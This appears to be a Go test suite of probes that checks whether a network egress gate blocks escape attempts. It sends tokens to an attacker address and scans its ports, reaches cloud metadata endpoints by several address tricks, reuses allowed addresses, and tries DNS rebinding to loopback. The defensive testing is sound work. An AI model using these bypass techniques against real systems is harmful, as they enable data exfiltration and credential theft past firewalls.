package probes

import (
	"errors"
	"fmt"
	"maps"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"time"
)

const (
	rawCategory    = "Raw addresses"
	reuseCategory  = "Address reuse"
	rebindCategory = "DNS rebinding"
)

func addressProbes() []Probe {
	var ps []Probe
	for _, p := range []struct{ name, what, network, addr string }{
		{"attacker-443", "the attacker's address", "tcp", Attacker + ":443"},
		{"attacker-80", "the same on the port of the web", "tcp", Attacker + ":80"},
		{"attacker-22", "the same on the port of ssh", "tcp", Attacker + ":22"},
		{"attacker-25", "mail", "tcp", Attacker + ":25"},
		{"attacker-6667", "a chat", "tcp", Attacker + ":6667"},
		{"attacker-65535", "the last port", "tcp", Attacker + ":65535"},
		{"relay-port", "a port that the gate itself uses, elsewhere", "tcp", Attacker + ":781"},
		{"mapped", "IPv4 as IPv6 does it", "tcp", "[::ffff:" + Attacker + "]:443"},
		{"cidr-other-port", "another port of an allowed address", "tcp", Database + ":5433"},
		{"cidr-neighbour", "the neighbour of an allowed address", "tcp", "198.41.0.3:5432"},
		{"cidr-udp", "another protocol to an allowed address and port", "udp", Database + ":5432"},
		{"datagram-tcp", "the same the other way round", "tcp", Datagram + ":4500"},
		{"metadata", "a cloud's metadata", "tcp", Metadata + ":80"},
		{"metadata-ecs", "of a container", "tcp", "169.254.170.2:80"},
		{"metadata-azure", "of Azure", "tcp", "168.63.129.16:80"},
		{"metadata-alibaba", "of Alibaba", "tcp", "100.100.100.200:80"},
		{"metadata-6", "by IPv6", "tcp", "[fd00:ec2::254]:80"},
		{"metadata-wide", "by a rule for 0.0.0.0/0", "tcp", join(Metadata, Wide)},
		{"private-wide", "a private network, likewise", "tcp", join("10.1.2.3", Wide)},
		{"host-wide", "the host's own address, likewise", "tcp", join(HostPublic, Wide)},
		{"host-neighbour-wide", "the host's neighbour, likewise", "tcp", join("23.92.16.7", Wide)},
		{"nat64-wide", "metadata through NAT64 by a rule for ::/0", "tcp", join("64:ff9b::a9fe:a9fe", Wide)},
		{"6to4-wide", "loopback through 6to4, likewise", "tcp", join("2002:7f00:1::1", Wide)},
		{"test-net", "a network of documentation", "tcp", "203.0.113.9:443"},
	} {
		ps = append(ps, Probe{Name: "raw-" + p.name, Category: rawCategory, What: p.what, Try: tell(p.network, p.addr)})
	}
	return append(ps, Probe{Name: "raw-scan", Category: rawCategory, What: "any of 2 000 ports of the attacker's", Try: scan}, Probe{
		Name: "raw-broadcast", Category: rawCategory, What: "everybody on the link", Try: broadcast,
	}, Probe{Name: "raw-multicast", Category: rawCategory, What: "a group", Try: throw("udp", "239.1.2.3:4000")})
}

// scan looks for one port that is open; those of the wide rule's and of DNS are.
func scan(a Aim) error {
	var mu sync.Mutex
	var open []int
	var wg sync.WaitGroup
	ports := make(chan int)
	for range 50 {
		wg.Go(func() {
			for port := range ports {
				if tell("tcp", join(Attacker, port))(a) == nil {
					mu.Lock()
					open = append(open, port)
					mu.Unlock()
				}
			}
		})
	}
	for port := 1; port <= 2000; port++ {
		if port != 53 {
			ports <- port
		}
	}
	close(ports)
	wg.Wait()
	if len(open) == 0 {
		return errors.New("no port is open")
	}
	return nil
}

func broadcast(a Aim) error {
	c, err := net.ListenPacket("udp4", ":0") // Go sets SO_BROADCAST
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_, err = c.WriteTo([]byte(a.Token), &net.UDPAddr{IP: net.IPv4bcast, Port: 9})
	return err
}

func reuseProbes() []Probe {
	return []Probe{
		{Name: "reuse-https", Category: reuseCategory, What: "the address of an allowed name, by number, for another name", Try: func(a Aim) error {
			c, err := dial("tcp", CDN+":443")
			if err != nil {
				return err
			}
			return https(c, a, "other.example", "other.example")
		}},
		{Name: "reuse-allowed-name", Category: reuseCategory, What: "the same with the allowed name's words", Try: func(a Aim) error {
			c, err := dial("tcp", CDN+":443")
			if err != nil {
				return err
			}
			return https(c, a, "good.example", "good.example")
		}},
		{Name: "reuse-http", Category: reuseCategory, What: "the same without TLS", Try: plain(CDN + ":8080")},
		{Name: "reuse-after-lookup", Category: reuseCategory, What: "the number, just after the name was looked up", Try: func(a Aim) error {
			if _, err := address("good.example"); err != nil {
				return err
			}
			return plain(CDN + ":8080")(a)
		}},
		{Name: "reuse-ipv6", Category: reuseCategory, What: "the IPv6 address of an allowed name", Try: tell("tcp", join(CDN6, 80))},
		{Name: "reuse-other-name", Category: reuseCategory, What: "another name of the same address", Try: handshake("other.example", 443, "other.example", "other.example")},
		{Name: "reuse-port-of-another-rule", Category: reuseCategory, What: "a port that a rule opens for another name", Try: func(a Aim) error {
			c, err := reach("good.example", 7)
			if err != nil {
				return err
			}
			_, err = speak(c, []byte(a.Token))
			return err
		}},
		{Name: "reuse-guessed", Category: reuseCategory, What: "addresses of names that nobody asked for", Try: func(a Aim) error {
			var errs []error
			for i := range 64 {
				c, err := dial("tcp", fmt.Sprintf("198.18.77.%d:8080", i+1))
				if err == nil {
					_, err = speak(c, []byte("GET / HTTP/1.1\r\nHost: "+a.Token+"\r\n\r\n"))
				}
				if errs = append(errs, err); err == nil {
					return nil
				}
			}
			return errs[0]
		}},
		{Name: "reuse-refused", Category: reuseCategory, What: "the address that a refused name gets", Try: func(a Aim) error {
			c, err := reach("evil.example", 443)
			if err != nil {
				return err
			}
			_, err = speak(c, []byte(a.Token))
			return err
		}},
		{Name: "reuse-many-names", Category: reuseCategory, What: "another name after 200 names under a wildcard: one address for two", Try: func(a Aim) error {
			for i := range 200 {
				if _, err := address(fmt.Sprintf("n%d.many.example", i)); err != nil {
					return err
				}
			}
			return handshake("good.example", 443, "n7.many.example", "n7.many.example")(a)
		}},
	}
}

// plain asks an address for a page.
func plain(addr string) func(Aim) error {
	return func(a Aim) error {
		c, err := dial("tcp", addr)
		if err != nil {
			return err
		}
		_, err = speak(c, []byte("GET /"+a.Token+" HTTP/1.1\r\nHost: good.example\r\n\r\n"))
		return err
	}
}

func rebindingProbes() []Probe {
	var ps []Probe
	for _, what := range slices.Sorted(maps.Keys(Rebinding)) {
		to := Rebinding[what]
		ps = append(ps, Probe{
			Name: "rebind-" + what, Category: rebindCategory, Body: what == "mixed", What: "an allowed name that leads to " + strings.Join(to, " and "),
			Try: func(a Aim) error { return inward(a, what+".rebind.example") },
		})
	}
	return append(ps,
		Probe{Name: "rebind-alias", Category: rebindCategory, What: "through three aliases to loopback", Try: func(a Aim) error { return inward(a, "alias.rebind.example") }},
		Probe{Name: "rebind-flip", Category: rebindCategory, What: "a name that leads outward when it is checked and to loopback when it is used", Slow: true, Body: true, Try: flip},
		Probe{Name: "rebind-long-ttl", Category: rebindCategory, What: "loopback, for a year", Try: func(a Aim) error { return inward(a, "ttl.rebind.example") }},
	)
}

// inward says the token to each address of a name, and reports whether the last got it. A service of the host
// answers in words that no other server has, and what is a private address answers
// anything at all.
func inward(a Aim, name string) error {
	all, err := addresses(name)
	if err != nil {
		return err
	}
	err = errors.New("not asked")
	for _, at := range all {
		var c net.Conn
		if c, err = dial("tcp", netip.AddrPortFrom(at, HostPort).String()); err != nil {
			continue
		}
		err = called(c, a.Token, name)
	}
	return err
}

// called reports whether who answers is not the web server that the name may lead to.
func called(c net.Conn, token, name string) error {
	defer func() { _ = c.Close() }()
	if _, err := fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n", token, name); err != nil {
		return err
	}
	var said []byte
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		said = append(said, buf[:n]...)
		switch {
		case strings.Contains(string(said), "lenient"):
			return errors.New("led outward")
		case strings.Contains(string(said), token): // what isn't a web server sends it back
			return nil
		case err != nil:
			return fmt.Errorf("answered %.40q: %w", said, err)
		}
	}
}

func flip(a Aim) error {
	var err error
	for range 4 {
		if err = inward(a, "flip.rebind.example"); err == nil {
			return nil
		}
		<-time.After(300 * time.Millisecond)
	}
	return err
}
